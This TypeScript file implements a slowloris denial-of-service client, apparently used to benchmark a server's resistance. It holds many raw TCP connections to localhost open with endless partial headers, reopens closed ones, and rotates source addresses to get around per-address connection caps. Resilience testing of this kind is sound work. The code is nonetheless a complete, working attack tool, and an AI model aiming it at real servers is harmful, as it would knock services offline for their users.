// A slowloris attacker for `pnpm bench attack`: raw TCP connections that send a request line and
// a Host header, then one more header byte every few seconds, never the blank line that ends the
// headers. Whatever the server closes is re-opened at once, as a real attacker does, so about
// `count` stay held whatever the server's timeouts do.
import { connect, type Socket } from 'node:net'

export interface SlowlorisOptions {
  port: number
  count: number
  /** Loopback source addresses, used in turn (the server caps connections per address). */
  addresses: readonly string[]
  /** Request targets, used in turn: the API, the proxy path, an SSE path. */
  paths: readonly string[]
  /** About this long between two trickled bytes (±50%). */
  trickleMs: number
}

// One header line sent a byte at a time: its `\r\n` ends the line, never the headers.
const TRICKLE = 'X-Slow: 1\r\n'

/** Counts since `start`. */
export interface SlowlorisCounts {
  /** Connected and not yet closed. */
  open: number
  opened: number
  /** Closed by the server (its headers timeout, its connection caps), not by the attacker. */
  closedByServer: number
  /** Of those, how many got a `408 Request Timeout` first. */
  timedOut408: number
  /** Connection attempts that failed outright (refused, reset before connecting). */
  failed: number
}

export class Slowloris {
  readonly #options: SlowlorisOptions
  readonly #sockets = new Map<Socket, NodeJS.Timeout | undefined>()
  readonly #counts: SlowlorisCounts = {
    open: 0,
    opened: 0,
    closedByServer: 0,
    timedOut408: 0,
    failed: 0,
  }
  #next = 0
  #stopped = false

  constructor(options: SlowlorisOptions) {
    this.#options = options
  }

  get counts(): SlowlorisCounts {
    return { ...this.#counts, open: this.#connected() }
  }

  /**
   * Opens `count` connections spread evenly over `rampMs`, so that the server's timeouts later
   * close (and the attacker re-opens) a steady trickle rather than all of them at once.
   */
  async start(rampMs: number): Promise<void> {
    const { count } = this.#options
    const opening: Promise<void>[] = []
    for (let i = 0; i < count && !this.#stopped; i++) {
      opening.push(this.#open())
      await new Promise((resolve) => setTimeout(resolve, rampMs / count))
    }
    await Promise.all(opening)
  }

  stop(): void {
    this.#stopped = true
    for (const [socket, timer] of this.#sockets) {
      clearTimeout(timer)
      socket.destroy()
    }
    this.#sockets.clear()
  }

  #connected(): number {
    let open = 0
    for (const socket of this.#sockets.keys()) if (!socket.connecting) open++
    return open
  }

  #open(): Promise<void> {
    const { port, addresses, paths } = this.#options
    const index = this.#next++
    const localAddress = addresses[index % addresses.length] as string
    const path = paths[index % paths.length] as string
    return new Promise((resolve) => {
      const socket = connect({ port, host: '127.0.0.1', localAddress })
      let connected = false
      let received = ''
      this.#sockets.set(socket, undefined)
      socket.setEncoding('latin1')
      socket.on('data', (text: string) => {
        received = (received + text).slice(0, 64)
      })
      socket.on('error', () => undefined)
      socket.once('connect', () => {
        connected = true
        this.#counts.opened++
        socket.write(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n`)
        this.#trickle(socket, 0)
        resolve()
      })
      socket.once('close', () => {
        clearTimeout(this.#sockets.get(socket))
        this.#sockets.delete(socket)
        if (this.#stopped) return resolve()
        if (!connected) this.#counts.failed++
        else {
          this.#counts.closedByServer++
          if (received.startsWith('HTTP/1.1 408')) this.#counts.timedOut408++
        }
        resolve()
        setImmediate(() => this.#stopped || this.#open())
      })
    })
  }

  #trickle(socket: Socket, sent: number): void {
    const delay = this.#options.trickleMs * (0.5 + Math.random())
    const timer = setTimeout(() => {
      if (socket.destroyed) return
      socket.write(TRICKLE[sent % TRICKLE.length] as string)
      this.#trickle(socket, sent + 1)
    }, delay)
    timer.unref()
    this.#sockets.set(socket, timer)
  }
}
